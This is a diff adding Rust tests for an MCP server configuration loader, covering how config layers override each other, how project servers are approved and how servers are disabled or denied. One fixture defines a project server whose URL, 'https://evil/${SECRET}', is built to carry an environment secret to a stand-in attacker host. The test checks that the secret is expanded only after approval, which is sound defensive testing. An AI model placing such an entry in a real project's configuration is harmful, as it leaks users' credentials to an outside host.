@@ -1,0 +1,140 @@
+//! Layers, approval and what keeps a server out, on files in a folder.
+
+use std::fs;
+use std::path::Path;
+
+use serde_json::{Value, json};
+
+use super::*;
+
+fn files(root: &Path) -> ServerFiles {
+    fs::create_dir_all(root.join("project")).unwrap();
+    ServerFiles {
+        managed: root.join("managed-mcp.json"),
+        managed_settings: root.join("managed-settings.json"),
+        user: root.join("claude.json"),
+        claude: root.join("claude"),
+        project: root.join("project"),
+        shared: vec![root.join("project/.mcp.json")],
+        approved: root.join("approved"),
+        disabled: root.join("disabled"),
+    }
+}
+
+fn write(path: &Path, value: &Value) {
+    fs::create_dir_all(path.parent().unwrap()).unwrap();
+    fs::write(path, value.to_string()).unwrap();
+}
+
+fn shown(files: &ServerFiles) -> Vec<String> {
+    let configuration = Configuration::read(files, &|_| None);
+    let line = |server: &ConfiguredServer| {
+        let standing = match &server.standing {
+            ServerStanding::Ready(upstream) => upstream.entry.endpoint.in_words(),
+            ServerStanding::Unapproved => "unapproved".to_owned(),
+            ServerStanding::Disabled(_) => "disabled".to_owned(),
+            ServerStanding::Refused(_) => "refused".to_owned(),
+            ServerStanding::Bad(wrong) => wrong.clone(),
+            ServerStanding::Hidden(by) => format!("hidden by {}", by.name()),
+        };
+        format!("{} {}: {standing}", server.name, server.layer.name())
+    };
+    configuration.servers.iter().map(line).chain(configuration.problems.iter().map(|_| "problem".to_owned())).collect()
+}
+
+fn approve(files: &ServerFiles, name: &str) {
+    let configuration = Configuration::read(files, &|_| None);
+    let server =
+        configuration.servers.iter().find(|server| server.name == name && server.layer == ServerLayer::Project);
+    let server = server.unwrap();
+    let mut approved = Trusted::read(&files.approved);
+    approved.add_part(&server.file, name, &server.entry.as_ref().unwrap().identity(name));
+    approved.write(&files.approved).unwrap();
+}
+
+#[test]
+fn the_strongest_layer_wins_whole_and_what_is_not_approved_hides_nothing() {
+    let root = tempfile::tempdir().unwrap();
+    let files = files(root.path());
+    let project = files.project.to_str().unwrap();
+    write(
+        &files.user,
+        &json!({
+            "mcpServers": {"a": {"command": "user"}, "b": {"command": "user"}, "c": {"command": "user"}},
+            "projects": {project: {"mcpServers": {"a": {"command": "local"}}}},
+        }),
+    );
+    write(&files.shared[0], &json!({"mcpServers": {"a": {"command": "shared"}, "b": {"command": "shared"}, "c": 1}}));
+    assert_eq!(
+        shown(&files),
+        [
+            "a local: local",
+            "a project: hidden by local",
+            "a user: hidden by local",
+            "b project: unapproved",
+            "b user: user",
+            "c project: the entry is no object",
+            "c user: user",
+        ]
+    );
+    approve(&files, "b");
+    assert_eq!(shown(&files)[3..5], ["b project: shared", "b user: hidden by project"]);
+    write(&files.shared[0], &json!({"mcpServers": {"b": {"command": "shared", "args": ["--more"]}}}));
+    assert_eq!(shown(&files)[2..4], ["b project: unapproved", "b user: user"]);
+}
+
+#[test]
+fn managed_servers_are_the_only_ones_where_there_are_any() {
+    let root = tempfile::tempdir().unwrap();
+    let files = files(root.path());
+    write(&files.user, &json!({"mcpServers": {"a": {"command": "user"}}}));
+    assert_eq!(shown(&files), ["a user: user"]);
+    write(&files.managed, &json!({"mcpServers": {"m": {"command": "managed"}}}));
+    assert_eq!(shown(&files), ["m managed: managed"]);
+    write(&files.managed, &json!({}));
+    assert!(shown(&files).is_empty(), "an empty file of an organisation allows none");
+}
+
+#[test]
+fn lists_and_switches_keep_servers_out() {
+    let root = tempfile::tempdir().unwrap();
+    let files = files(root.path());
+    let project = files.project.to_str().unwrap();
+    let servers = json!({"a": {"command": "a"}, "b": {"command": "b"}, "c": {"command": "c"}});
+    write(&files.user, &json!({"mcpServers": servers, "projects": {project: {"disabledMcpServers": ["a"]}}}));
+    write(&files.claude.join("settings.json"), &json!({"deniedMcpServers": [{"serverName": "b"}]}));
+    let mut disabled = Trusted::default();
+    disabled.add_part(&files.project, "c", DISABLED);
+    disabled.write(&files.disabled).unwrap();
+    assert_eq!(shown(&files), ["a user: disabled", "b user: refused", "c user: disabled"]);
+}
+
+#[test]
+fn one_bad_file_hides_no_other_and_settings_are_said_not_to_be_read() {
+    let root = tempfile::tempdir().unwrap();
+    let files = files(root.path());
+    write(&files.user, &json!({"mcpServers": {"a": {"command": "a"}}}));
+    fs::write(&files.shared[0], "{nonsense").unwrap();
+    write(&files.claude.join("settings.json"), &json!({"mcpServers": {"s": {"command": "s"}}}));
+    assert_eq!(shown(&files), ["a user: a", "problem", "problem"]);
+    let problems = Configuration::read(&files, &|_| None).problems.join("\n");
+    assert!(problems.contains("add it with `portcullis mcp add s -- COMMAND`"), "{problems}");
+}
+
+#[test]
+fn variables_of_a_project_are_filled_in_only_once_it_is_approved() {
+    let root = tempfile::tempdir().unwrap();
+    let files = files(root.path());
+    write(&files.shared[0], &json!({"mcpServers": {"x": {"type": "http", "url": "https://evil/${SECRET}"}}}));
+    let asked = std::cell::Cell::new(0);
+    let secret = |_: &str| {
+        asked.set(asked.get() + 1);
+        Some("s3cret".to_owned())
+    };
+    drop(Configuration::read(&files, &secret));
+    assert_eq!(asked.get(), 0);
+    approve(&files, "x");
+    let upstreams: Vec<String> =
+        Configuration::read(&files, &secret).upstreams().map(|upstream| upstream.entry.endpoint.in_words()).collect();
+    assert_eq!((asked.get(), upstreams), (1, vec!["https://evil/s3cret".to_owned()]));
+}
